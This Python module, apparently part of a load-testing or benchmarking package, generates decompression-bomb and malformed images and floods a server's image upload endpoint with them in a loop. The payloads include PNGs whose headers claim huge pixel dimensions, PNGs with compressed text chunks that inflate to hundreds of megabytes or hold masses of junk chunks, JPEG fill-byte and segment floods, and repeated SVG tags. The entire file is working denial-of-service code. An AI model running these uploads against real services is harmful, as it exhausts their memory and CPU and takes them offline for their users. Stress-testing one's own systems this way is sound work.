"""Uploads that are small to send and made to be slow, huge or broken for who reads them."""

from __future__ import annotations

import struct
import zlib

from bench.floods.registry import Target, flood

_SIGNATURE = b"\x89PNG\r\n\x1a\n"
_FORM = b'--e\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n%s\r\n--e--\r\n'


def _chunk(kind: bytes, body: bytes = b"") -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png(width: int, height: int, between: bytes = b"") -> bytes:
    """A gray PNG with pixels of zero; a large one has no pixels at all."""
    rows = bytes((width + 1) * height) if width * height <= 64_000_000 else b""
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    pixels = _chunk(b"IDAT", zlib.compress(rows, 9))
    return _SIGNATURE + header + between + pixels + _chunk(b"IEND")


def _text(size: int) -> bytes:
    return _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(size), 9))


#: What is uploaded again and again.
BOMBS = {
    "pixels that a header claims": _png(20_000, 20_000),
    "pixels that are there": _png(8_000, 7_900),
    "a text that inflates": _png(4, 4, _text(200_000_000)),
    "texts that inflate": _png(4, 4, _text(1_000_000) * 200),
    "chunks": _png(4, 4, _chunk(b"teSt") * 200_000),
    "fill bytes": b"\xff\xd8\xff" + b"\xff" * 4_000_000,
    "segments": b"\xff\xd8" + b"\xff\xe5\0\2" * 500_000,
    "another kind": b"<svg/>" * 10_000,
}


def post(target: Target, content: bytes) -> bytes:
    """Upload a file on a connection of its own; the answer."""
    body = _FORM % content
    head = f"POST /api/images HTTP/1.1\r\nHost: {target.host}\r\nConnection: close\r\n"
    head += f"Content-Type: multipart/form-data; boundary=e\r\nContent-Length: {len(body)}\r\n\r\n"
    with target.connect() as line:
        target.send(line, head.encode() + body)
        return target.read(line, lambda got: False)


def _bomb(name: str, content: bytes) -> None:
    def run(target: Target) -> None:
        while target.goes_on:
            post(target, content)

    flood(f"bomb: {name}", connections=2, patient=True)(run)


for _name, _content in BOMBS.items():
    _bomb(_name, _content)
